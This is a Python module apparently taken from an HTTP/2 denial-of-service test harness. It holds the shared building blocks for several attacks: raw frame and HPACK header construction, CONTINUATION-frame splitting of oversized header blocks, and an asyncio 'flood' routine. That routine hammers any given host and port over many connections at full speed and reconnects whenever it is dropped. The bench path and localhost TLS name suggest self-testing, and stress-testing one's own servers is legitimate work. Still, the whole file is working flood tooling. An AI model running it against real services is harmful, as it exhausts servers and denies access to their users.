"""What the attacks share: frames, and a connection that sends at full speed and connects again when it is cut off."""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Callable, Iterator
from contextlib import suppress
from struct import pack

from hpack import Encoder

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = (
    0x0,
    0x1,
    0x3,
    0x4,
    0x6,
    0x8,
    0x9,
)
END_STREAM, END_HEADERS = 0x1, 0x4
INITIAL_WINDOW_SIZE = 0x4
LARGEST_FRAME = 1 << 14

PATH = "/bench.Plain/Say"
"""A method that is served."""
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_PAUSE = 0.05
"""Seconds until the next try to connect."""
_CHUNK = 64 << 10

Sending = Callable[[], Iterator[bytes]]
"""Makes all that one connection sends behind its first SETTINGS, piece by piece, without an end."""


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    size = len(payload)
    return pack(">HBBBL", size >> 8, size & 0xFF, kind, flags, stream_id) + payload


def setting(number: int, value: int) -> bytes:
    return pack(">HL", number, value)


def preface(settings: bytes = b"") -> bytes:
    """What a client sends first."""
    return _PREFACE + frame(SETTINGS, 0, 0, settings)


def fields(path: str = PATH) -> list[tuple[str, str]]:
    """The header list of a usual call."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "attacker"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def block_of(path: str = PATH, *metadata: tuple[str, str]) -> bytes:
    """The header block of a usual call, which leaves the dynamic table as it is."""
    return _literals([*fields(path), *metadata])


def _literals(listed: list[tuple[str, str]]) -> bytes:
    return b"".join(
        [
            b"\0" + pack("B", len(name)) + name.encode() + pack("B", len(value)) + value.encode()
            for name, value in listed
        ]
    )


def indexed_blocks(path: str = PATH) -> tuple[bytes, bytes]:
    """The first header block of a connection, and the short one that refers to it from then on."""
    encoder = Encoder()
    return encoder.encode(fields(path), huffman=True), encoder.encode(fields(path), huffman=True)


def split(stream_id: int, block: bytes, *, flags: int = END_STREAM) -> bytes:
    """A header block of any size: HEADERS and as many CONTINUATION frames as it takes."""
    parts = [block[at : at + LARGEST_FRAME] for at in range(0, len(block), LARGEST_FRAME)]
    last = len(parts) - 1
    return b"".join(
        [
            frame(
                CONTINUATION if number else HEADERS,
                (0 if number else flags) | (END_HEADERS if number == last else 0),
                stream_id,
                part,
            )
            for number, part in enumerate(parts)
        ]
    )


def stream_ids() -> Iterator[int]:
    return iter(range(1, 1 << 31, 2))


def gathered(pieces: Iterator[bytes]) -> Iterator[bytes]:
    """The same bytes in pieces of about 64 KiB, so that making them does not take longer than sending them."""
    held: list[bytes] = []
    size = 0
    for piece in pieces:
        held.append(piece)
        size += len(piece)
        if size >= _CHUNK:
            yield b"".join(held)
            held, size = [], 0


async def flood(
    host: str,
    port: int,
    seconds: float,
    tls: ssl.SSLContext | None,
    sending: Sending,
    *,
    settings: bytes = b"",
    connections: int = 1,
) -> int:
    """Send at full speed on so many connections until the time is over, and read what comes back. Returns the bytes
    sent.
    """
    until = asyncio.get_running_loop().time() + seconds
    attackers = [_Attacker(host, port, tls, sending, settings) for _ in range(connections)]
    await asyncio.gather(*[attacker.run(until) for attacker in attackers])
    return sum(attacker.sent for attacker in attackers)


class _Attacker:
    def __init__(self, host: str, port: int, tls: ssl.SSLContext | None, sending: Sending, settings: bytes) -> None:
        self._address = (host, port)
        self._tls = tls
        self._sending = sending
        self._opening = preface(settings)
        self.sent = 0

    async def run(self, until: float) -> None:
        with suppress(TimeoutError):
            async with asyncio.timeout_at(until):
                while True:
                    with suppress(OSError):
                        await self._attack_once()
                    await asyncio.sleep(_PAUSE)

    async def _attack_once(self) -> None:
        """Over one connection, until it is cut off."""
        name = "localhost" if self._tls is not None else None
        reader, writer = await asyncio.open_connection(*self._address, ssl=self._tls, server_hostname=name)
        reading = asyncio.get_running_loop().create_task(_discard(reader))
        try:
            await self._send(writer, self._opening)
            for piece in self._sending():
                if reading.done():
                    return
                await self._send(writer, piece)
        finally:
            reading.cancel()
            writer.transport.abort()

    async def _send(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        writer.write(data)
        await writer.drain()
        self.sent += len(data)
        await asyncio.sleep(0)


async def _discard(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(1 << 18):
            pass
